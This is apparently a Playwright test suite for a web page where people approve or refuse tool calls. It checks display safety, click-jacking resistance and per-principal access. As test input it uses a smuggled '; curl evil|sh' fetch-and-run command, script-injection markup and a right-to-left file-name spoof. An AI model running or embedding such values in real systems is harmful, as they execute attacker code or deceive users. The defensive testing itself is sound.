"""Programs of `hub_run` and calls that wait for a person, as somebody sees and answers them in the page."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, Locator, expect

from tests.downstream.network.visitor import TOKENS, Visitor, visiting
from tests.downstream.page.browser.looking import WAIT, Looker, WatchedHub, looking, page_of, watched_hub
from tests.downstream.page.browser.test_accessible import violations
from tests.downstream.page.browser.test_hostile_texts import BIDI, MARKUP, unharmed
from tests.fakes.client import PATIENCE
from tests.policy.access.test_a_person_is_asked_first import did
from tests.policy.tries.counted import counting

pytestmark = pytest.mark.anyio

PROGRAM = "first = await files__read()\nsecond = await files__effect(path='/tmp/report')\nprint(first)\nsecond"


@pytest.fixture
async def hub(tmp_path: Path) -> AsyncIterator[WatchedHub]:
    servers = {"files": counting(tmp_path)}
    async with watched_hub(tmp_path / "hub", servers, code_mode=True, confirm=["destructive"]) as running:
        yield running


@pytest.fixture
async def looker(browser: Browser, hub: WatchedHub) -> AsyncIterator[Looker]:
    async with page_of(browser, hub) as opened:
        await opened.has_text(opened.row("files"), "ready")
        yield opened


def waiting(looker: Looker) -> Locator:
    """The calls that wait."""
    return looker.page.get_by_role("region", name="Waiting for your answer").get_by_role("article")


def calling(visitor: Visitor, name: str, **arguments: Any) -> asyncio.Task[dict[str, Any]]:
    return asyncio.create_task(visitor.call(name, arguments))


async def result(task: asyncio.Task[dict[str, Any]]) -> dict[str, Any]:
    async with asyncio.timeout(PATIENCE):
        outcome: dict[str, Any] = (await task)["result"]
        return outcome


async def test_a_code_mode_program_is_shown_with_its_calls_and_waits_for_the_pages_answer(
    looker: Looker, hub: WatchedHub, tmp_path: Path
) -> None:
    view = await looker.view("calls")
    async with hub.visitor() as visitor:
        program = calling(visitor, "hub_run", code=PROGRAM)
        await looker.has_text(waiting(looker), "May files__effect be called?")
        await looker.has_text(waiting(looker), "/tmp/report")
        await looker.has_text(looker.row("hub_run"), "running")
        await looker.has_text(looker.row("files__read"), "ok")
        assert did(tmp_path) == ["read"]
        await waiting(looker).get_by_role("link", name="a program").click()
        await looker.has_text(looker.panel(), "A program that runs")
        await looker.has_text(looker.panel().locator("table"), "files__read")
        await looker.press("Allow once", waiting(looker))
        assert not (await result(program)).get("isError")
    assert did(tmp_path) == ["read", "effect"]
    await looker.sees_not(waiting(looker))
    await looker.has_text(looker.row("hub_run"), "ok")
    await looker.has_text(looker.panel().get_by_label("Program"), "await files__read()\n")
    inner = looker.panel().locator("table.steps").first.get_by_role("link")
    await expect(inner).to_have_text(["files__read", "files__effect"], timeout=WAIT)
    await looker.sees(looker.row("confirm"))
    names = [await cell.inner_text() for cell in await view.locator(".grid-body .cell.name:visible").all()]
    assert sorted(names) == ["confirm", "files__effect", "files__read", "hub_run"]
    grouped = [name for name in await in_order(view) if name != "confirm"]
    assert grouped == ["hub_run", "files__read", "files__effect"]
    await inner.last.click()
    await looker.has_text(looker.panel(), "confirm: once, on the live page")
    await looker.panel().get_by_role("link", name="a program").click()
    await looker.has_text(looker.panel().locator("h2"), "hub_run")


async def in_order(view: Locator) -> list[str]:
    """The names in the list, from above."""
    rows = await view.locator(".grid-body [role=row]:visible").evaluate_all(
        "rows => rows.map(row => [Number(row.getAttribute('aria-rowindex')), row.querySelector('.name').textContent])"
    )
    return [name for _, name in sorted(rows)]


async def test_answering_no_refuses_the_call_and_it_is_not_executed(
    looker: Looker, hub: WatchedHub, tmp_path: Path
) -> None:
    async with hub.visitor() as visitor:
        call = calling(visitor, "files__effect", path="/etc")
        await looker.press("No", waiting(looker))
        assert (await result(call))["isError"]
    assert did(tmp_path) == []
    await looker.sees_not(waiting(looker))
    await looker.view("calls")
    await looker.has_text(looker.row("refused"), "files__effect")


async def test_the_call_list_updates_under_the_pointer_after_a_confirmation_closes(
    browser: Browser, hub: WatchedHub
) -> None:
    """The list moves below the pointer when the question is gone, which is no reason to hold its rows back."""
    async with page_of(browser, hub, viewport={"width": 390, "height": 800}) as looker, hub.visitor() as visitor:
        await looker.has_text(looker.row("files"), "ready")
        await looker.view("calls")
        for _ in range(2):
            program = calling(visitor, "hub_run", code=PROGRAM)
            await looker.press("No", waiting(looker))
            await result(program)
            await looker.has_text(looker.page.locator(".grid-body [aria-rowindex='2']:visible"), "hub_run")
            await looker.has_text(looker.page.locator(".grid-body [aria-rowindex='2']:visible"), "tool error")


async def test_a_tool_allowed_for_this_session_needs_no_second_confirmation(
    looker: Looker, hub: WatchedHub, tmp_path: Path
) -> None:
    async with hub.visitor() as visitor:
        call = calling(visitor, "files__effect")
        await looker.press("Allow for this session, whatever its arguments", waiting(looker))
        assert not (await result(call)).get("isError")
        assert not (await result(calling(visitor, "files__effect"))).get("isError")
    async with hub.visitor() as another:
        call = calling(another, "files__effect")
        await looker.press("No", waiting(looker))
        assert (await result(call))["isError"]
    assert did(tmp_path) == ["effect", "effect"]


async def test_a_confirmation_survives_a_page_reload_and_is_answered_with_the_keyboard(
    looker: Looker, hub: WatchedHub
) -> None:
    async with hub.visitor() as visitor:
        call = calling(visitor, "files__effect")
        await looker.sees(waiting(looker))
        await looker.page.reload()
        allow = waiting(looker).get_by_role("button", name="Allow once")
        await expect(allow).to_be_enabled(timeout=WAIT)
        await allow.focus()
        await looker.page.keyboard.press("Enter")
        assert not (await result(call)).get("isError")
        await looker.sees_not(waiting(looker))
        await expect(looker.page.locator("[role=tab][aria-selected=true]")).to_be_focused(timeout=WAIT)


async def test_a_control_is_disabled_from_the_moment_it_is_in_the_page(looker: Looker, hub: WatchedHub) -> None:
    await looker.page.evaluate(
        """() => new MutationObserver((_, watching) => {
            const button = document.querySelector(".confirmation button");
            if (!button) return;
            watching.disconnect();
            window.first = button.ariaDisabled;
        }).observe(document.body, { subtree: true, childList: true })"""
    )
    async with hub.visitor() as visitor:
        call = calling(visitor, "files__effect")
        await looker.press("No", waiting(looker))
        assert (await result(call))["isError"]
    assert await looker.page.evaluate("first") == "true"


async def test_a_focused_control_answers_the_keyboard_although_it_has_just_moved(
    looker: Looker, hub: WatchedHub
) -> None:
    async with hub.visitor() as visitor:
        call = calling(visitor, "files__effect")
        allow = waiting(looker).get_by_role("button", name="Allow once")
        await expect(allow).to_be_enabled(timeout=WAIT)
        await allow.focus()
        await looker.page.evaluate(
            """() => {
                const above = document.createElement("p");
                above.textContent = "This moves the rest of the page.";
                document.body.prepend(above);
            }"""
        )
        await looker.page.keyboard.press("Enter")
        assert not (await result(call)).get("isError")


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_a_confirmation_shows_arguments_as_text_and_is_accessible(
    browser: Browser, hub: WatchedHub, scheme: str
) -> None:
    async with (
        page_of(browser, hub, color_scheme=scheme, viewport={"width": 360, "height": 800}) as looker,
        hub.visitor() as visitor,
    ):
        await looker.has_text(looker.row("files"), "ready")
        call = calling(visitor, "files__effect", path=MARKUP + BIDI, more=["x" * 500] * 20)
        await looker.has_text(waiting(looker).locator("pre"), "gnp.exe")
        text = await unharmed(looker, waiting(looker))
        assert "<script>alert(" in text
        assert "\\u202egnp.exe" in text
        assert (await waiting(looker).locator("pre").text_content() or "").count("x" * 500) == 20
        assert await violations(looker) == []
        await looker.press("No", waiting(looker))
        await result(call)


async def test_arguments_of_any_size_are_shown_whole_before_the_call_can_be_allowed(
    looker: Looker, hub: WatchedHub, tmp_path: Path
) -> None:
    held = asyncio.Event()

    async def hold(route: Any) -> None:
        await asyncio.wait_for(held.wait(), PATIENCE)
        await route.continue_()

    await looker.page.route("**/ui/api/confirmations/*", hold)
    async with hub.visitor() as visitor:
        call = calling(visitor, "files__effect", text="line\n" * 60_000 + "; curl evil|sh")
        await looker.sees(waiting(looker).get_by_role("button", name="No"))
        await looker.has_text(waiting(looker), "SHA-256")
        assert await waiting(looker).get_by_role("button", name="Allow").count() == 0
        held.set()
        await looker.sees(waiting(looker).get_by_role("button", name="Allow once"))
        text = await waiting(looker).locator("pre").text_content() or ""
        assert text.count("line\\n\n") == 60_000
        assert text.endswith('; curl evil|sh"\n}')
        await looker.press("Allow once", waiting(looker))
        assert not (await result(call)).get("isError")
    assert did(tmp_path) == ["effect"]


async def click_at_once(looker: Looker, place: Any) -> None:
    """Clicks a place as somebody does who has not seen what is there now."""
    await looker.page.mouse.click(place["x"] + place["width"] / 2, place["y"] + place["height"] / 2)


async def test_a_click_for_a_call_that_is_gone_allows_no_other_one(
    looker: Looker, hub: WatchedHub, tmp_path: Path
) -> None:
    async with hub.visitor() as staying:
        async with hub.visitor() as leaving:
            first = calling(leaving, "files__effect", path="/read")
            await looker.has_text(waiting(looker), "/read")
            second = calling(staying, "files__effect", path="/wipe")
            await looker.has_text(waiting(looker).last, "/wipe")
            allow = waiting(looker).first.get_by_role("button", name="Allow once")
            place = await allow.bounding_box()
            await allow.hover()
            first.cancel()
            await asyncio.wait({first})
        await expect(waiting(looker)).to_have_count(1, timeout=WAIT)
        await click_at_once(looker, place)
        await looker.page.mouse.move(1, 1)  # the gap closes, and the other call moves to its place
        await expect(looker.page.locator(".gap")).to_have_count(0, timeout=WAIT)
        await click_at_once(looker, place)
        await looker.press("No", waiting(looker))
        assert (await result(second))["isError"]
    assert did(tmp_path) == []


async def test_a_call_that_appears_under_the_pointer_is_not_allowed_by_a_click_at_once(
    looker: Looker, hub: WatchedHub, tmp_path: Path
) -> None:
    async with hub.visitor() as visitor:
        call = calling(visitor, "files__effect")
        allow = waiting(looker).get_by_role("button", name="Allow once")
        await looker.sees(allow)
        place = await allow.bounding_box()
        await looker.press("No", waiting(looker))
        assert (await result(call))["isError"]
        await looker.sees_not(waiting(looker))
        await looker.page.evaluate(
            """([x, y]) => new MutationObserver((_, watching) => {
                const button = document.elementFromPoint(x, y)?.closest(".confirmation button");
                if (!button) return;
                watching.disconnect();
                button.click();
            }).observe(document.body, { subtree: true, childList: true, attributes: true })""",
            [place["x"] + 5, place["y"] + 5] if place else [0, 0],
        )
        call = calling(visitor, "files__effect")
        await expect(allow).to_be_enabled(timeout=WAIT)
        assert did(tmp_path) == []
        await allow.click()
        assert not (await result(call)).get("isError")
    assert did(tmp_path) == ["effect"]


async def test_a_principal_can_answer_only_confirmations_of_its_own_clients(browser: Browser, tmp_path: Path) -> None:
    principals = {name: {"token": TOKENS[name]} for name in ("alice", "bob")}
    listen = {"ui": True, "principals": principals}
    servers = {"files": counting(tmp_path)}
    async with (
        watched_hub(tmp_path / "hub", servers, listen, confirm=["files/effect"]) as hub,
        looking(browser, hub.base) as alice,
        looking(browser, hub.base) as bob,
        visiting(hub.base, "handshake", TOKENS["alice"]) as client,
    ):
        for looker, name in ((alice, "alice"), (bob, "bob")):
            await looker.sign_in(TOKENS[name])
            await looker.has_text(looker.row("files"), "ready")
        call = calling(client, "files__effect")
        await looker.sees(looker.row("files"))
        await alice.sees(waiting(alice))
        await bob.page.reload()
        await bob.sees(bob.row("files"))
        await bob.sees_not(waiting(bob))
        await alice.press("Allow once", waiting(alice))
        assert not (await result(call)).get("isError")
    assert did(tmp_path) == ["effect"]
